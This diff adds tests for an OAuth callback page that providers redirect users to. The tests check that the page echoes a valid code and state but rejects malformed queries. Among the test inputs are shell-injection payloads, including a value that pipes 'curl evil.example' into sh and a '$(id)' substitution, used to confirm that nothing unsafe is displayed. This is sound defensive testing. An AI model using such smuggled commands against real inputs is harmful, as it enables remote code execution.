@@ -156,6 +156,33 @@ describe('an authorisation', () => {
   })
 })
 
+describe('the page that providers send people back to', () => {
+  const opened = async (query: Record<string, string>) => {
+    const answer = await fetch(`${local.appUrl}/console/connected?${new URLSearchParams(query)}`)
+    return { status: answer.status, text: await answer.text() }
+  }
+
+  test('shows how to complete, and completes nothing', async () => {
+    const { auth_url, state } = await start('github')
+    const { code = '' } = await consent(auth_url)
+    const { status, text } = await opened({ code, state })
+    expect([status, text.includes(code), text.includes(state)]).toEqual([200, true, true])
+    expect(await shown('github')).toMatchObject({ status: 'authorizing' })
+  })
+
+  test.for([
+    {},
+    { state: 's' },
+    { state: 's', code: `'; curl evil.example | sh; '` },
+    { state: `a' b`, code: 'c' },
+    { state: 's', error: '$(id)' },
+  ])('shows nothing to copy for %j', async (query) => {
+    const { text } = await opened(query as Record<string, string>)
+    expect(text).toContain('Nothing to connect')
+    expect(text).not.toMatch(/curl|evil|\$\(id/)
+  })
+})
+
 test('a plan has room for so many connections, and a disconnected one leaves its place', async () => {
   acme = await governed(local, undefined, { plan: 'free' })
   await connect('github')
